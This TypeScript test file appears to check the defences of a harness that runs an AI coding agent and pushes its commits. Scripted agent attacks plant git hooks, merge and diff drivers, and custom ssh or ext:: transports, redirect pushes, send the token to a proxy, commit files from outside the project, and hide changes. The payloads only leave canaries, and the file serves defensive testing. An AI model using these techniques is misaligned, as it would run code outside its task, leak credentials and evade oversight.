import { readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";

import { afterAll, beforeAll, describe, expect, vi } from "vitest";

import { handoffLine } from "../helpers/action-project.ts";
import { runGitIn } from "./git.ts";
import { attack, readCommitted, type AttackResult } from "./attack-fixture.ts";

const TRAPS = readFileSync(new URL("agents/git-traps.sh", import.meta.url), "utf8");
const DONE = handoffLine('"s"', '"g"');
const WORK = "refs/heads/codex-self-iter/main";

/** Succeeds for each program of the agent that git ran: the program leaves a canary. */
const ranPrograms =
  (...names: readonly string[]) =>
  (result: AttackResult): Record<string, boolean> =>
    Object.fromEntries(names.map((name) => [name, result.hasCanary(name)]));

/** The first and the last line are far enough apart to merge two changes without a conflict. */
const LINES = ["one", "two", "three", "four", "five", "six", "seven", ""];

/** The defences must hold without isolation. */
const NO_ISOLATION = { isolation: ["none"] } as const;

describe("the repository's configuration", () => {
  attack("T9", "sets hooks, a file monitor, filters, diff drivers and a signing program", {
    ...NO_ISOLATION,
    agent: `(${TRAPS}) > /dev/null 2>&1\n${DONE}`,
    succeeded: ranPrograms(
      ...["pre-commit", "commit-msg", "post-commit", "pre-push", "reference-transaction", "post-index-change"].map(
        (hook) => `hook-${hook}`,
      ),
      "fsmonitor",
      "clean",
      "process",
      "textconv",
      "diff",
      "sign",
    ),
  });

  attack("T9", "sets a merge driver, used after a concurrent push", {
    ...NO_ISOLATION,
    agent: `if [ -e first.txt ]; then
  printf '#!/bin/sh\\ntouch @OUTSIDE@/merge\\n' > .git/driver; chmod +x .git/driver
  git config merge.x.driver "$PWD/.git/driver %O %A %B"; git config merge.default x
  mkdir -p .git/info; echo '* merge=x' > .git/info/attributes
  sed -i 's/^one$/ours/' lines.txt
  touch @OUTSIDE@/working; while [ ! -e @OUTSIDE@/pushed ]; do sleep 0.1; done
fi
echo work > first.txt\n${DONE}`,
    files: { "lines.txt": LINES.join("\n") },
    iterations: 2,
    async execute({ hasCanary, outside, project, github }) {
      const ended = project.runChain();
      await Promise.race([
        ended,
        vi.waitFor(() => hasCanary("working") || expect.fail("The agent has not started."), { timeout: 250_000 }),
      ]);
      await github.repository.commit({ ref: WORK, files: { "lines.txt": LINES.with(-2, "theirs").join("\n") } });
      writeFileSync(join(outside, "pushed"), "");
      await ended;
    },
    async succeeded(result) {
      const committed = await readCommitted(result, "lines.txt");
      const isMerged = committed === LINES.with(0, "ours").with(-2, "theirs").join("\n").trim();
      if (result.target === "action" && !isMerged) throw new Error(`There was no merge to attack: ${committed ?? "nothing was committed"}`);
      return { "a program that git runs": result.hasCanary("merge") };
    },
  });

  attack("T9", "moves the hooks through an included file", {
    ...NO_ISOLATION,
    agent: `mkdir -p .more
for hook in pre-commit pre-push; do printf '#!/bin/sh\\ntouch @OUTSIDE@/%s\\n' $hook > .more/$hook; chmod +x .more/$hook; done
printf '[core]\\n\\thooksPath = %s/.more\\n' "$PWD" > .more/config
git config include.path "$PWD/.more/config"\n${DONE}`,
    succeeded: ranPrograms("pre-commit", "pre-push"),
  });

  attack("T9", "moves the work tree, so that files of another folder are committed", {
    ...NO_ISOLATION,
    agent: `mkdir @OUTSIDE@/private && echo "private words" > @OUTSIDE@/private/diary.txt\ngit config core.worktree @OUTSIDE@/private\n${DONE}`,
    succeeded: async (result) => ({ "a file of another folder on the branch": (await readCommitted(result, "diary.txt")) !== null }),
  });

  attack("T9", "hides changes through the index and the exclude file", {
    ...NO_ISOLATION,
    agent: `echo "# Plan\n\n- [x] write the notes" > plan.md; echo work > README.md; git update-index --assume-unchanged README.md
echo work > work.txt; echo '*.txt' >> .git/info/exclude\n${DONE}`,
    files: { "README.md": "# Demo\n" },
    succeeded: async (result) => ({
      "a changed file missing on the branch": (await readCommitted(result, "README.md")) === "# Demo",
      "a new file missing on the branch": (await readCommitted(result, "work.txt")) === null,
    }),
  });
});

describe("the push URL", () => {
  /** A repository of the agent that accepts every push. */
  const CREATE_OTHER = "git init -q --bare @OUTSIDE@/elsewhere.git; git -C @OUTSIDE@/elsewhere.git config receive.shallowUpdate true";
  const hasPush = (result: AttackResult): boolean => runGitIn(join(result.outside, "elsewhere.git"), "for-each-ref") !== "";

  attack("T9", "is replaced by pushurl", {
    ...NO_ISOLATION,
    agent: `${CREATE_OTHER}; echo work > work.txt; git config remote.origin.pushurl @OUTSIDE@/elsewhere.git\n${DONE}`,
    succeeded: async (result) => ({
      "the work in another repository": hasPush(result),
      "the work missing on the branch": (await result.github.repository.findRef(WORK)) === null,
    }),
  });

  attack("T9", "is rewritten by pushInsteadOf", {
    ...NO_ISOLATION,
    agent: `${CREATE_OTHER}; git config url.@OUTSIDE@/elsewhere.git.pushInsteadOf "$(git remote get-url origin)"\n${DONE}`,
    succeeded: (result) => ({ "the work in another repository": hasPush(result) }),
  });

  attack("T9", "uses a program of the agent as ssh", {
    ...NO_ISOLATION,
    agent: `git config core.sshCommand 'sh -c "touch @OUTSIDE@/ssh; exit 1" x'; git config remote.origin.pushurl ssh://localhost/x\n${DONE}`,
    succeeded: ranPrograms("ssh"),
  });

  attack("T9", "uses a program of the agent as transport", {
    ...NO_ISOLATION,
    agent: `git config protocol.ext.allow always; git config remote.origin.pushurl 'ext::sh -c touch% @OUTSIDE@/transport'\n${DONE}`,
    succeeded: ranPrograms("transport"),
  });

  /** A proxy that records the authorization headers. */
  const received: string[] = [];
  const proxy = createServer((request, response) => {
    received.push(request.headers.authorization ?? "");
    response.writeHead(502).end();
  });
  beforeAll(() => new Promise<void>((resolve) => proxy.listen(0, "127.0.0.1", resolve)));
  afterAll(() => void proxy.close());

  attack("T9", "is reached through a proxy", {
    ...NO_ISOLATION,
    agent: `git config http.proxy "$(cat proxy)"\n${DONE}`,
    get files() {
      return { proxy: `http://127.0.0.1:${(proxy.address() as AddressInfo).port}\n` };
    },
    prepare: () => void received.splice(0),
    succeeded: () => ({ "the token, sent to a proxy": received.some((header) => /^basic /i.test(header)) }),
  });
});

describe("the repository", () => {
  const HOOK = `printf '#!/bin/sh\\ntouch @OUTSIDE@/hook\\n' > hooks/pre-commit; chmod +x hooks/pre-commit`;

  attack("T9", "has .git replaced by a file that names another folder", {
    ...NO_ISOLATION,
    agent: `cp -R .git @OUTSIDE@/other && (cd @OUTSIDE@/other && mkdir -p hooks && ${HOOK}) && rm -rf .git && echo "gitdir: @OUTSIDE@/other" > .git\n${DONE}`,
    succeeded: ranPrograms("hook"),
  });

  attack("T9", "has .git replaced by a symlink to another folder", {
    ...NO_ISOLATION,
    agent: `mv .git @OUTSIDE@/other && (cd @OUTSIDE@/other && mkdir -p hooks && ${HOOK}) && ln -s @OUTSIDE@/other .git\n${DONE}`,
    succeeded: ranPrograms("hook"),
  });

  attack("T9", "contains a nested repository", {
    ...NO_ISOLATION,
    agent: `echo work > work.txt; git init -q inner && (cd inner && echo x > x && git add x && git -c user.name=a -c user.email=a@b commit -qm x)\n${DONE}`,
    async succeeded(result) {
      const tree = await result.github.repository.git("ls-tree", "-r", WORK).catch(() => "");
      return {
        "an unreachable commit in place of files": tree.includes("160000"),
      };
    },
  });
});
